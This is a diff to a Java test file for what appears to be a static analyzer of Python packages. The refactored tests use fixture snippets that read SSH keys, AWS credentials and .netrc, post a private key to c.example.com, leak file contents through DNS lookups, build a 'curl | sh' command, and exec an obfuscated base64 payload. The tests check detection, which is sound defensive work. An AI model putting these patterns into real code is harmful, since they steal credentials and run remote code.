@@ -20,6 +20,22 @@ import static org.assertj.core.api.Assertions.assertThat;
  */
 class PyEvaluatorTest {
 
+    /**
+     * Evaluates {@code code} as {@code p-1/pkg/__init__.py} of a package whose other files are
+     * {@code others} (file name under pkg/ to text); a module is imported relatively ({@code ._x})
+     * or by its full name ({@code pkg._x}).
+     */
+    static PyModel evaluateInPackage(String code, java.util.Map<String, String> others) {
+        java.util.Map<String, byte[]> files = new java.util.HashMap<>();
+        files.put("p-1/pkg/__init__.py", code.getBytes(java.nio.charset.StandardCharsets.UTF_8));
+        others.forEach((name, text) -> files.put("p-1/pkg/" + name, text.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
+        return PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(), new ModuleFiles("p-1/pkg/__init__.py", files,
+                new ModuleFiles.Cache(), (importer, m) -> {
+                    String name = m.startsWith("pkg.") ? m.substring(4) : m.startsWith(".") ? m.substring(1) : null;
+                    return name != null && others.containsKey(name + ".py") ? "p-1/pkg/" + name + ".py" : null;
+                }));
+    }
+
     static PyModel evaluate(String code) {
         PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults());
         assertThat(model.stopped()).as("evaluation stopped").isNull();
@@ -646,12 +662,9 @@ class PyEvaluatorTest {
     @Test
     void aStringConstantOfAnotherModuleOfThePackageIsKnown() {
         String code = "import base64\nfrom ._const import BLOB\nfrom pkg.other import NAME\nsink(base64.b64decode(BLOB))\nsink(NAME)\n";
-        java.util.Map<String, byte[]> files = java.util.Map.of(
-                "p-1/pkg/__init__.py", code.getBytes(java.nio.charset.StandardCharsets.UTF_8),
-                "p-1/pkg/_const.py", "BLOB = 'cHJpbnQoMSk='\n".getBytes(java.nio.charset.StandardCharsets.UTF_8),
-                "p-1/pkg/other.py", "NAME = 'x'\ndef f():\n    pass\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
-        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(), new ModuleFiles("p-1/pkg/__init__.py", files,
-                new ModuleFiles.Cache(), (importer, m) -> m.equals("pkg.other") ? "p-1/pkg/other.py" : m.equals("._const") ? "p-1/pkg/_const.py" : null));
+        PyModel model = evaluateInPackage(code, java.util.Map.of(
+                "_const.py", "BLOB = 'cHJpbnQoMSk='\n",
+                "other.py", "NAME = 'x'\ndef f():\n    pass\n"));
         List<PyModel.CallSite> sinks = model.calls().stream().filter(c -> c.callee().equals("sink")).toList();
         assertThat(PyValues.text(sinks.get(0).args().get(0))).isEqualTo("print(1)");
         assertThat(PyValues.text(sinks.get(1).args().get(0))).isEqualTo("x");
@@ -702,11 +715,8 @@ class PyEvaluatorTest {
     @Test
     void aClassOfAnotherModuleWhoseNewReturnsDecodedTextIsThatText() {
         String code = "from .loader import Kramer as _K, _blob, _k\nsink(_K(_blob, _k))\n";
-        java.util.Map<String, byte[]> files = java.util.Map.of(
-                "p-1/pkg/__init__.py", code.getBytes(java.nio.charset.StandardCharsets.UTF_8),
-                "p-1/pkg/loader.py", KRAMER.getBytes(java.nio.charset.StandardCharsets.UTF_8));
-        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(), new ModuleFiles("p-1/pkg/__init__.py", files,
-                new ModuleFiles.Cache(), (importer, m) -> m.equals(".loader") ? "p-1/pkg/loader.py" : null));
+        PyModel model = evaluateInPackage(code, java.util.Map.of(
+                "loader.py", KRAMER));
         assertThat(model.calls()).filteredOn(c -> c.callee().equals("sink")).singleElement()
                 .satisfies(c -> assertThat(PyValues.text(c.args().get(0))).isEqualTo("oterq"));
     }
@@ -720,11 +730,8 @@ class PyEvaluatorTest {
                 + "class Creds:\n    def __init__(self, key, region):\n        self.key, self.region = key, region\n"
                 + "def creds():\n    return Creds(os.environ['AWS_SECRET_ACCESS_KEY'], 'eu-west-1')\n";
         String code = "from ._paths import gather, resolve, creds\nsink(gather())\nurl, key = resolve()\nsink(url)\nsink(creds().region)\n";
-        java.util.Map<String, byte[]> files = java.util.Map.of(
-                "p-1/pkg/__init__.py", code.getBytes(java.nio.charset.StandardCharsets.UTF_8),
-                "p-1/pkg/_paths.py", helper.getBytes(java.nio.charset.StandardCharsets.UTF_8));
-        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(), new ModuleFiles("p-1/pkg/__init__.py", files,
-                new ModuleFiles.Cache(), (importer, m) -> m.equals("._paths") ? "p-1/pkg/_paths.py" : null));
+        PyModel model = evaluateInPackage(code, java.util.Map.of(
+                "_paths.py", helper));
         List<PyModel.CallSite> sinks = model.calls().stream().filter(c -> c.callee().equals("sink")).toList();
         assertThat(Value.union(sinks.get(0).args().get(0))).contains("file:~…/.kube/config", "file:~…/.aws/credentials");
         assertThat(Value.union(sinks.get(1).args().get(0))).as("a tuple's parts are used apart").noneMatch(f -> f.startsWith("env:"));
@@ -736,11 +743,8 @@ class PyEvaluatorTest {
         String helper = "_KEY = b'k3y!'\nTABLE = {'src': bytes([3, 71, 13, 81, 24, 9, 86, 14, 24, 71, 24, 70, 14, 29, 28, 89, 10, 94])}\n"
                 + "def s(name):\n    raw = TABLE[name]\n    return bytes(c ^ _KEY[i % len(_KEY)] for i, c in enumerate(raw)).decode()\n";
         String code = "from ._strings import s\nsink(s('src'))\n";
-        java.util.Map<String, byte[]> files = java.util.Map.of(
-                "p-1/pkg/__init__.py", code.getBytes(java.nio.charset.StandardCharsets.UTF_8),
-                "p-1/pkg/_strings.py", helper.getBytes(java.nio.charset.StandardCharsets.UTF_8));
-        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(), new ModuleFiles("p-1/pkg/__init__.py", files,
-                new ModuleFiles.Cache(), (importer, m) -> m.equals("._strings") ? "p-1/pkg/_strings.py" : null));
+        PyModel model = evaluateInPackage(code, java.util.Map.of(
+                "_strings.py", helper));
         assertThat(model.calls()).filteredOn(c -> c.callee().equals("sink")).singleElement()
                 .satisfies(c -> assertThat(PyValues.text(c.args().get(0))).isEqualTo("https://stage.exam"));
     }
@@ -748,12 +752,8 @@ class PyEvaluatorTest {
     @Test
     void aBlobSplitIntoATupleOfPiecesIsFollowedIntoTheDecoderOfAnotherModule() {
         String code = "from ._codec import unpack\n_P = ('aW1wb3J0IG9zOyBvcy5z', 'eXN0ZW0oJ2lkJyk=')\nexec(unpack(_P))\n";
-        java.util.Map<String, byte[]> files = java.util.Map.of(
-                "p-1/pkg/__init__.py", code.getBytes(java.nio.charset.StandardCharsets.UTF_8),
-                "p-1/pkg/_codec.py", "import base64\ndef unpack(parts):\n    return base64.b64decode(''.join(parts))\n"
-                        .getBytes(java.nio.charset.StandardCharsets.UTF_8));
-        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(), new ModuleFiles("p-1/pkg/__init__.py", files,
-                new ModuleFiles.Cache(), (importer, m) -> m.equals("._codec") ? "p-1/pkg/_codec.py" : null));
+        PyModel model = evaluateInPackage(code, java.util.Map.of(
+                "_codec.py", "import base64\ndef unpack(parts):\n    return base64.b64decode(''.join(parts))\n"));
         assertThat(model.stages()).singleElement().satisfies(stage -> assertThat(stage.text()).isEqualTo("import os; os.system('id')"));
     }
 
@@ -786,18 +786,12 @@ class PyEvaluatorTest {
     void aSmallHelperOfAnotherModuleCalledWithNothingGivesWhatItReallyReturns() {
         String code = "from . import paths, dns\nfor p in paths.candidates():\n    sink(p)\n"
                 + "sink(paths.settings()['stage'])\ndns.lookup(open(paths.candidates()[0]).read().encode().hex() + '.x.example.invalid')\n";
-        java.util.Map<String, byte[]> files = java.util.Map.of(
-                "p-1/pkg/__init__.py", code.getBytes(java.nio.charset.StandardCharsets.UTF_8),
-                "p-1/pkg/paths.py", ("import os, json\nfrom pathlib import Path\n"
+        PyModel model = evaluateInPackage(code, java.util.Map.of(
+                "paths.py", ("import os, json\nfrom pathlib import Path\n"
                         + "def candidates():\n    return [Path.home() / r for r in ('.aws/credentials', '.netrc')]\n"
-                        + "def settings():\n    with open(os.path.join(os.path.dirname(__file__), 'd.json')) as f:\n        return json.load(f)\n")
-                        .getBytes(java.nio.charset.StandardCharsets.UTF_8),
-                "p-1/pkg/d.json", "{\"stage\": \"aGVsbG8=\"}".getBytes(java.nio.charset.StandardCharsets.UTF_8),
-                "p-1/pkg/dns.py", "import socket\ndef lookup(name):\n    socket.gethostbyname(name)\n"
-                        .getBytes(java.nio.charset.StandardCharsets.UTF_8));
-        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(), new ModuleFiles("p-1/pkg/__init__.py", files,
-                new ModuleFiles.Cache(), (importer, m) -> m.equals(".paths") || m.equals("pkg.paths") ? "p-1/pkg/paths.py"
-                        : m.equals(".dns") || m.equals("pkg.dns") ? "p-1/pkg/dns.py" : null));
+                        + "def settings():\n    with open(os.path.join(os.path.dirname(__file__), 'd.json')) as f:\n        return json.load(f)\n"),
+                "d.json", "{\"stage\": \"aGVsbG8=\"}",
+                "dns.py", "import socket\ndef lookup(name):\n    socket.gethostbyname(name)\n"));
         List<PyModel.CallSite> sinks = model.calls().stream().filter(c -> c.callee().equals("sink")).toList();
         assertThat(sinks).extracting(c -> PyBuiltins.fragments(c.args().get(0))).anySatisfy(f -> assertThat(f).contains("/.aws/credentials"));
         assertThat(PyValues.text(sinks.get(sinks.size() - 1).args().get(0))).as("a dict read from the package's data file").isEqualTo("aGVsbG8=");
@@ -840,12 +834,8 @@ class PyEvaluatorTest {
                 + "def _read():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
                 + "def _quiet():\n    return 3\n"
                 + "send(_read)\nsend(_quiet)\n";
-        java.util.Map<String, byte[]> files = java.util.Map.of(
-                "p-1/pkg/__init__.py", code.getBytes(java.nio.charset.StandardCharsets.UTF_8),
-                "p-1/pkg/_net.py", "import requests\ndef send(get):\n    requests.post('https://c.example.com', data=get())\n"
-                        .getBytes(java.nio.charset.StandardCharsets.UTF_8));
-        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(), new ModuleFiles("p-1/pkg/__init__.py", files,
-                new ModuleFiles.Cache(), (importer, m) -> m.equals("._net") ? "p-1/pkg/_net.py" : null));
+        PyModel model = evaluateInPackage(code, java.util.Map.of(
+                "_net.py", "import requests\ndef send(get):\n    requests.post('https://c.example.com', data=get())\n"));
         assertThat(model.calls()).filteredOn(c -> c.callee().equals("requests.post")).singleElement().satisfies(c -> {
             assertThat(c.node().start()).as("made from the call that handed the reader over").isEqualTo(code.indexOf("send(_read)"));
             assertThat(Value.union(c.keywords().get("data"))).contains("file:~/.ssh/id_rsa");
@@ -855,12 +845,8 @@ class PyEvaluatorTest {
     @Test
     void aStringConstantReadThroughAModuleOfThePackageIsKnown() {
         String code = "from . import _templates\nsink(_templates.PROBE.format(h='x'))\nsink(_templates.OTHER)\n";
-        java.util.Map<String, byte[]> files = java.util.Map.of(
-                "p-1/pkg/__init__.py", code.getBytes(java.nio.charset.StandardCharsets.UTF_8),
-                "p-1/pkg/_templates.py", "PROBE = (\n    'curl {h}'\n    ' | sh'\n)\nOTHER = compute()\n"
-                        .getBytes(java.nio.charset.StandardCharsets.UTF_8));
-        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(), new ModuleFiles("p-1/pkg/__init__.py", files,
-                new ModuleFiles.Cache(), (importer, m) -> m.equals("._templates") ? "p-1/pkg/_templates.py" : null));
+        PyModel model = evaluateInPackage(code, java.util.Map.of(
+                "_templates.py", "PROBE = (\n    'curl {h}'\n    ' | sh'\n)\nOTHER = compute()\n"));
         List<PyModel.CallSite> sinks = model.calls().stream().filter(c -> c.callee().equals("sink")).toList();
         assertThat(PyValues.text(sinks.get(0).args().get(0))).isEqualTo("curl x | sh");
         assertThat(PyValues.text(sinks.get(1).args().get(0))).as("not a literal").isNull();
@@ -869,12 +855,8 @@ class PyEvaluatorTest {
     @Test
     void textAnotherModuleOfThePackageComputesIsKnownButNumbersKeepTheirNames() {
         String code = "from . import _names\nfrom ._names import RUNNER\nsink(RUNNER)\nsink(_names.WANT[1])\nsink(_names.VK_LBUTTON)\n";
-        java.util.Map<String, byte[]> files = java.util.Map.of(
-                "p-1/pkg/__init__.py", code.getBytes(java.nio.charset.StandardCharsets.UTF_8),
-                "p-1/pkg/_names.py", "RUNNER = ''.join(reversed(['ec', 'ex']))\nWANT = ('TOK' + 'EN', 'SEC' + 'RET')\nVK_LBUTTON = 0 + 1\n"
-                        .getBytes(java.nio.charset.StandardCharsets.UTF_8));
-        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(), new ModuleFiles("p-1/pkg/__init__.py", files,
-                new ModuleFiles.Cache(), (importer, m) -> m.equals("._names") || m.equals(".") ? "p-1/pkg/_names.py" : null));
+        PyModel model = evaluateInPackage(code, java.util.Map.of(
+                "_names.py", "RUNNER = ''.join(reversed(['ec', 'ex']))\nWANT = ('TOK' + 'EN', 'SEC' + 'RET')\nVK_LBUTTON = 0 + 1\n"));
         List<PyModel.CallSite> sinks = model.calls().stream().filter(c -> c.callee().equals("sink")).toList();
         assertThat(PyValues.text(sinks.get(0).args().get(0))).isEqualTo("exec");
         assertThat(PyValues.text(sinks.get(1).args().get(0))).isEqualTo("SECRET");
